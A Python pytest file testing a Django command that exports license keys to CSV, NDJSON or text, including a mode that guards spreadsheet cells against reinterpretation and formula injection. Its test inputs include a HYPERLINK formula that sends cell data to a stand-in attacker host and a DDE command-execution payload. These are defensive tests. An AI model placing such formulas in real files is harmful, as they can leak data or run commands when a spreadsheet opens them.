"""The columns of exports, exports of several pools, and exports that a spreadsheet opens."""

import csv
import io
import json
from dataclasses import replace

import pytest
from django.core.management import CommandError, call_command
from hypothesis import example, given
from hypothesis import strategies as st

from licensing.services import issue_license
from pools.key_files import ReadOptions, open_key_file
from pools.key_files.guards import guard_cell, unguard_cell
from pools.key_files.writing import EXPORT_COLUMNS
from pools.models import KeyEvent
from pools.services.imports import import_keys
from pools.services.keys import pop_keys, return_key, withdraw_key
from tests.cast import add_keys, make_policy, make_product, numbered
from tests.console import page, signed_in, staff

# Texts that a spreadsheet changes or runs, in some language: numbers, dates, times, booleans, formulas.
CHANGED = [
    *("00123456", "0000077001", "1234567890123456", "12345678", "1E5", "2E10000077", "12e45678", "1.50", "1,500"),
    *("3-12-2077", "2077-01-01", "03.12.2077", "1/2", "MAY-2077", "MAI2077", "5-MAR", "DEC01-77", "12:30:00", "10 PM"),
    *("2077-01-01T10:00:00+00:00", "TRUE", "falsch", "$12345678", "12345678 kg", "=1+1+2+77", "+7700001", "-7700001"),
    *("@SUM(A1:A9)", "＝1+1+2+77", "＋7700001", "－7700001", "＠SUM(A1)", "'00123456", '="00123456"', "#N/A"),
    *(
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|'/c calc'!A0",
        "a;b,c\td",
        '"quoted"',
        "(12345678)",
        "50%",
        "１２３４５６７８",
    ),
]
PLAIN = ["AB12-CD34-EF56", "A7F3X-99QXB-41ZPC", "x1y2z3w4", "GIFT-0001-A", "01a20866-333d-73e7-b6c6-6d3a7c07d222"]


@pytest.fixture
def run(capsys):
    def run(*arguments):
        call_command("export_keys", *map(str, arguments))
        return capsys.readouterr().out

    return run


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


class TestGuards:
    def test_texts_that_a_spreadsheet_changes_are_guarded(self):
        assert [text for text in CHANGED if guard_cell(text) == text] == []

    def test_texts_that_a_spreadsheet_keeps_are_written_plainly(self):
        assert [text for text in [*PLAIN, ""] if guard_cell(text) != text] == []

    @given(st.one_of(st.text(), st.text('="&a1', max_size=12), st.text('a"b1', min_size=250, max_size=600)))
    @example('="a"&"b"')
    @example("0" * 256)
    def test_a_guard_is_taken_off_exactly(self, text):
        guarded = guard_cell(text)

        assert unguard_cell(guarded) == text
        assert guarded == text or guarded.startswith('="')

    def test_no_text_in_a_guard_is_longer_than_excel_allows(self):
        parts = guard_cell("=" * 1024).split("&")

        assert [len(part.strip('="')) for part in parts] == [0] * 5
        assert max(len(part.removeprefix("=")) for part in parts) == 257


class TestColumns:
    def test_a_popped_key_has_its_reference_license_customer_batch_and_pool(self, acme, audit, run):
        owner = acme.user(email="carl@customer.test")
        report = import_keys(policy=acme.policy, files=[key_file(*numbered(2))], audit=audit, name="ACME PO 4711")
        pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "Order 1"))
        license = issue_license(policy=acme.policy, owner=owner, audit=audit_of(audit, "Order 2"))

        first, second = rows_of(run("--policy", acme.policy.pk, "--state", "popped"))

        assert tuple(first) == EXPORT_COLUMNS
        assert shown(first) == ["KEY-0001", "Order 1", "", "", "ACME PO 4711", "Pooled"]
        assert shown(second) == ["KEY-0002", "Order 2", str(license.pk), "carl@customer.test", "ACME PO 4711", "Pooled"]
        assert first["import"] == str(report.key_import.pk)

    def test_the_last_pop_of_a_key_counts(self, acme, audit, run):
        add_keys(acme.policy, "KEY-0001")
        pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "Order 1"))
        return_key(policy=acme.policy, text="KEY-0001", undelivered=True, audit=audit)
        assert shown(*rows_of(run("--policy", "Pooled")))[1] == ""

        pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "Order 2"))
        assert shown(*rows_of(run("--policy", "Pooled", "--state", "popped")))[1] == "Order 2"

    def test_a_withdrawn_key_keeps_its_reference(self, acme, audit, run):
        add_keys(acme.policy, "KEY-0001")
        pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "Order 1"))
        withdraw_key(policy=acme.policy, text="KEY-0001", audit=audit_of(audit, "Refund 1"))

        (row,) = rows_of(run("--policy", "Pooled", "--state", "withdrawn"))

        assert shown(row) == ["KEY-0001", "Order 1", "", "", "", "Pooled"]

    def test_ndjson_has_the_same_members(self, acme, run):
        add_keys(acme.policy, "KEY-0001")

        row = json.loads(run("--policy", "Pooled", "--format", "ndjson"))

        assert tuple(row) == EXPORT_COLUMNS
        assert (row["pool"], row["reference"]) == ("Pooled", None)

    def test_columns_of_another_account_are_never_read(self, acme, rival, audit, run):
        """Both accounts have a key with this text, popped for different orders."""
        for company, order in ((acme, "Ours"), (rival, "Theirs")):
            add_keys(company.policy, "KEY-0001")
            pop_keys(policy=company.policy, count=1, audit=audit_of(audit, order))

        (row,) = rows_of(run("--policy", "Pooled", "--account", "acme", "--state", "popped"))

        assert row["reference"] == "Ours"


class TestSeveralPools:
    @pytest.fixture
    def silver(self, acme):
        silver = make_policy(acme.product, "Silver", use_pool=True)
        add_keys(acme.policy, *numbered(2))
        add_keys(silver, "SILVER-0001")
        return silver

    def test_several_policies_are_exported_into_one_file(self, acme, silver, run):
        rows = rows_of(run("--policy", "Silver", "--policy", acme.policy.pk, "--policy", "silv"))

        assert [(row["key"], row["pool"]) for row in rows] == [
            ("SILVER-0001", "Silver"),
            ("KEY-0001", "Pooled"),
            ("KEY-0002", "Pooled"),
        ]
        events = KeyEvent.objects.filter(event="exported").order_by("id")
        assert [(event.policy_id, event.details["count"]) for event in events] == [(silver.pk, 1), (acme.policy.pk, 2)]

    @pytest.mark.parametrize("by", ["pk", "name"])
    def test_all_pools_of_a_product_are_exported(self, acme, silver, run, by):
        other = make_policy(make_product(acme.account, "Other"), "Elsewhere", use_pool=True)
        add_keys(other, "OTHER-0001")

        printed = run("--product", getattr(acme.product, by), "--format", "text")

        assert printed.splitlines() == [*numbered(2), "SILVER-0001"]

    @pytest.mark.parametrize(
        ("arguments", "said"),
        [
            (["--policy", "Pooled", "--policy", "nothing"], "No policy with a pool matches 'nothing'"),
            (["--product", "nothing"], "No product has the id or name 'nothing'."),
            (["--product", "Bare"], "The product 'Bare' has no policy with a pool."),
            (["--policy", "Pooled", "--policy", "Silver", "--import", "x"], "--import needs a single --policy."),
            (["--product", "Rocket", "--policy", "Pooled"], "not allowed with argument"),
            ([], "one of the arguments --policy --product is required"),
        ],
    )
    def test_nothing_is_exported_when_one_of_them_is_wrong(self, acme, silver, run, arguments, said):
        make_product(acme.account, "Bare")

        with pytest.raises(CommandError, match=said) as failed:
            run(*arguments)

        assert failed.value.returncode in (1, 2)
        assert not KeyEvent.objects.filter(event="exported").exists()

    def test_products_of_one_name_in_two_accounts_are_told_apart(self, acme, rival, silver, run):
        with pytest.raises(CommandError, match="Several products have the id or name 'Rocket'. Choose one by its id"):
            run("--product", "Rocket")

        assert "SILVER-0001" in run("--product", "Rocket", "--account", "acme")


class TestForSpreadsheet:
    def test_file_begins_with_a_byte_order_mark_and_says_that_keys_are_guarded(self, acme, run):
        add_keys(acme.policy, "0012345678", "AB12-CD34-EF56")

        header, first, second = run("--policy", "Pooled", "--for-spreadsheet").splitlines()

        assert header == "\ufeffkey (guarded),created,popped,withdrawn,import,reference,license,customer,batch,pool"
        assert first.startswith('"=""0012345678""",')
        assert second.startswith("AB12-CD34-EF56,")

    def test_texts_of_callers_are_guarded_too(self, acme, audit, run):
        add_keys(acme.policy, "KEY-0001")
        pop_keys(policy=acme.policy, count=1, audit=audit_of(audit, "=1+1"))

        (row,) = rows_of(run("--policy", "Pooled", "--state", "popped", "--for-spreadsheet"))

        assert row["reference"] == '="=1+1"'

    @pytest.mark.parametrize("saved", [False, True], ids=["as written", "saved by a spreadsheet"])
    def test_every_key_comes_back_exactly(self, acme, audit, run, saved):
        keys = [text.replace("\t", " ") for text in [*CHANGED, *PLAIN, "SCHLÜSSEL-0001", "=" * 300] if len(text) >= 8]
        add_keys(acme.policy, *keys)
        text = run("--policy", "Pooled", "--for-spreadsheet")
        if saved:
            text = save_with_spreadsheet(text)

        lines = list(open_key_file(io.BufferedReader(io.BytesIO(text.encode())), ReadOptions(), name="keys.csv"))

        assert [line.text for line in lines if line.text] == keys
        assert {line.reason for line in lines} == {None}

    @pytest.mark.parametrize("saved", [False, True], ids=["as written", "saved by a spreadsheet"])
    def test_popped_keys_are_no_stock_when_they_come_back(self, acme, rival, audit, run, saved):
        add_keys(acme.policy, *numbered(2))
        pop_keys(policy=acme.policy, count=1, audit=audit)
        text = run("--policy", acme.policy.pk, "--state", "all", "--for-spreadsheet")
        if saved:
            text = save_with_spreadsheet(text)

        lines = list(open_key_file(io.BufferedReader(io.BytesIO(text.encode())), ReadOptions(), name="keys.csv"))

        assert [line.reason and line.reason.code for line in lines if line.text] == ["used_row", None]

    def test_only_csv_is_written_for_a_spreadsheet(self, acme, run):
        with pytest.raises(CommandError, match="--for-spreadsheet needs --format csv") as failed:
            run("--policy", "Pooled", "--for-spreadsheet", "--format", "text")

        assert failed.value.returncode == 2

    def test_console_exports_for_a_spreadsheet_unless_the_operator_unticks_the_box(self, acme):
        add_keys(acme.policy, "0012345678")
        client = signed_in(staff(acme, email="ann@acme.test"))
        address = page("pools_pool_export", acme.policy.pk)

        response = client.post(address, {"state": "available", "format": "csv", "for_spreadsheet": "on"})
        plain = client.post(address, {"state": "available", "format": "csv"})
        text = client.post(address, {"state": "available", "format": "text", "for_spreadsheet": "on"})

        assert client.get(address).context["form"]["for_spreadsheet"].value() is True
        assert b"".join(response.streaming_content).decode().splitlines()[1].startswith('"=""0012345678""",')
        assert b"".join(plain.streaming_content).decode().splitlines()[1].startswith("0012345678,")
        assert b"".join(text.streaming_content).decode() == "0012345678\n"


def key_file(*texts):
    file = io.BufferedReader(io.BytesIO("".join(f"{text}\n" for text in texts).encode()))
    return open_key_file(file, ReadOptions(format="text", header=False))


def audit_of(audit, reference):
    return replace(audit, reference=reference)


def shown(row):
    return [row[name] for name in ("key", "reference", "license", "customer", "batch", "pool")]


def save_with_spreadsheet(text):
    """The file after a German spreadsheet: semicolons, plain texts in place of the guards."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    saved = io.StringIO()
    csv.writer(saved, delimiter=";").writerows([[unguard_cell(cell) for cell in row] for row in rows])
    return "\ufeff" + saved.getvalue()
